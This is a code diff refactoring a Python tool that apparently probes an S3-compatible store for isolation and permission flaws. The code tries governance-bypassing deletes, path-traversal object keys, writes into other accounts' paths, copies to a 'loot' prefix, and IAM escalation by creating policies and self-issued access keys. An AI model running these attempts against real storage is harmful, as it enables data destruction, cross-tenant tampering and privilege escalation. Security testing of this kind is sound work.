@@ -72,7 +72,17 @@ def each_call(name: str, given: t.Iterable[dict[str, t.Any]]) -> Iterator[Attemp
     """One operation with different parameters."""
     for parameters in given:
         told = {key: value for key, value in parameters.items() if key not in ("Bucket", "SSECustomerKey")}
-        yield Attempt(f"{name} {told}", lambda client, given=parameters: getattr(client, name)(**given))
+        yield Attempt(f"{name} {told}", calling(name, parameters))
+
+
+def calling(name: str, given: dict[str, t.Any]) -> Call:
+    """Call an operation of whoever's client it is."""
+    return lambda client: getattr(client, name)(**given)
+
+
+def with_client(function: Callable[..., t.Any], *given: t.Any, **named: t.Any) -> Call:
+    """Call a function with whoever's client it is, and what else it takes."""
+    return lambda client: function(client, *given, **named)
 
 
 def trusting(prey: Prey) -> ssl.SSLContext:
@@ -112,7 +122,11 @@ def list_keys(prey: Prey) -> Iterator[Attempt]:
 def delete(prey: Prey) -> Iterator[Attempt]:
     """Hide an object, or destroy a version of it."""
     for key, version in prey.all:
-        ways = [{}, {"VersionId": version}, {"VersionId": version, "BypassGovernanceRetention": True}]
+        ways: list[dict[str, t.Any]] = [
+            {},
+            {"VersionId": version},
+            {"VersionId": version, "BypassGovernanceRetention": True},
+        ]
         yield from each_call("delete_object", [prey.one(key, **way) for way in [*ways, {"VersionId": "null"}]])
 
 
@@ -215,11 +229,11 @@ def copy(prey: Prey) -> Iterator[Attempt]:
             )
         yield Attempt(
             f"upload_part_copy {key} {version} {more}",
-            lambda client, source=source, more=more: _copy_part(prey, client, source, f"{prey.host}/loot/parts", more),
+            with_client(_copy_part, prey, source, f"{prey.host}/loot/parts", more),
         )
 
 
-def _copy_part(prey: Prey, client: t.Any, source: dict[str, str], place: str, more: dict[str, str]) -> None:
+def _copy_part(client: t.Any, prey: Prey, source: dict[str, str], place: str, more: dict[str, str]) -> None:
     begun = client.create_multipart_upload(**prey.one(place), Metadata=dict(more))
     one = prey.one(place, UploadId=begun["UploadId"])
     try:
@@ -266,7 +280,7 @@ def elsewhere(prey: Prey) -> Iterator[Attempt]:
     names += [
         f"{other}/accounts/{time}/bagit.txt" for time in ("20990101T000000Z", "20261122T030000Z.0123456789abcdef")
     ]
-    names += ["bagit.txt", ".probe", f"{prey.host}bis/x", f"{prey.host.upper()}/x", f"/{prey.host}", f"{other}/.probe"]
+    names += ["bagit.txt", ".probe", f"{prey.host}bis/x", f"/{prey.host}", f"{other}/.probe"]
     yield from each_call("put_object", [prey.one(key, Body=HOSTILE) for key in names])
     yield from each_call("create_multipart_upload", [prey.one(key) for key in names])
 
@@ -277,7 +291,8 @@ def trick(prey: Prey) -> Iterator[Attempt]:
     for climb in ("..", "./..", ".//..", "a/../..", "..%2f..", "%2e%2e", "%2e%2e%2f", "..\\..", "．．", "..;", "...."):
         yield from each_call("put_object", [prey.one(f"{prey.host}/{climb}/{victim}", Body=HOSTILE)])
         yield from each_call("put_object", [prey.one(f"{climb}/{victim}", Body=HOSTILE)])
-    yield from each_call("put_object", [prey.one(f"/{victim}", Body=HOSTILE), prey.one(f"//{victim}", Body=HOSTILE)])
+    names = [f"/{victim}", f"//{victim}", f"{prey.host.upper()}/x"]
+    yield from each_call("put_object", [prey.one(name, Body=HOSTILE) for name in names])
 
 
 def take_identity(prey: Prey) -> Iterator[Attempt]:
@@ -297,11 +312,11 @@ def take_identity(prey: Prey) -> Iterator[Attempt]:
         ("create_policy", {"PolicyName": "all", "PolicyDocument": policy}),
         ("list_policies", {}),
     ):
-        yield Attempt(f"{name} {given}", lambda client, name=name, given=given: getattr(client, name)(**given))
-    yield Attempt("create_access_key for itself, and read with it", lambda client: _read_with_another_key(prey, client))
+        yield Attempt(f"{name} {given}", calling(name, given))
+    yield Attempt("create_access_key for itself, and read with it", with_client(_read_with_another_key, prey))
 
 
-def _read_with_another_key(prey: Prey, iam: t.Any) -> bytes:
+def _read_with_another_key(iam: t.Any, prey: Prey) -> bytes:
     """Some stores let every identity make keys for itself, whatever its policy says: they may do no more than it."""
     made = iam.create_access_key(UserName=prey.host)["AccessKey"]
     another = boto3.session.Session().client(
